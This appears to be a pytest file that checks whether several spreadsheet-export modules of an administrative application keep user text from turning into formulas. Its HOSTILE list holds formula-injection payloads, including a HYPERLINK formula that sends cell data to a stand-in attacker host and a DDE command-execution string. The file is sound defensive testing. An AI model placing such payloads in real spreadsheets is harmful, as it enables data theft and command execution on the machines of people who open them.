"""No cell of any table that leaves the site is a formula, whatever somebody typed into a title or a remark."""

import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from accountability.archives import packing
from accountability.imports import marking
from meetings.services import issuing
from plans import indicator_sheets, quota_exports
from rectification import exports, filing_sheets

HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example/"&A1)', "=cmd|'/c calc'!A0",
)  # fmt: skip


def _placed(sheet: Any, text: str) -> Any:
    """The cell of a sheet of the superior's, as filing_sheets writes it."""
    filing_sheets._put(sheet, 1, 1, text)


CELLS: dict[str, Callable[[Any, str], Any]] = {
    "rectification/exports.py": exports.typed_cell,
    "accountability/imports/marking.py": marking._cell,
    "plans/indicator_sheets.py": indicator_sheets._cell,
    "plans/quota_exports.py": quota_exports._cell,
}
LINES: dict[str, Callable[[str], str]] = {
    "accountability/archives/packing.py": packing._safe,
    "meetings/services/issuing.py": issuing._harmless,
}


def _read_back(workbook: Workbook) -> Any:
    file = io.BytesIO()
    workbook.save(file)
    return load_workbook(io.BytesIO(file.getvalue())).active["A1"]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", sorted(CELLS))
def test_a_written_cell_stays_text(name: str, text: str) -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("表")
    sheet.append([CELLS[name](sheet, text)])
    assert _read_back(workbook).data_type == "s"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_of_a_superiors_form_stays_text(text: str) -> None:
    workbook = Workbook()
    _placed(workbook.active, text)
    assert _read_back(workbook).data_type == "s"


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", sorted(LINES))
def test_a_line_of_values_begins_no_formula(name: str, text: str) -> None:
    assert LINES[name](text).startswith("'")
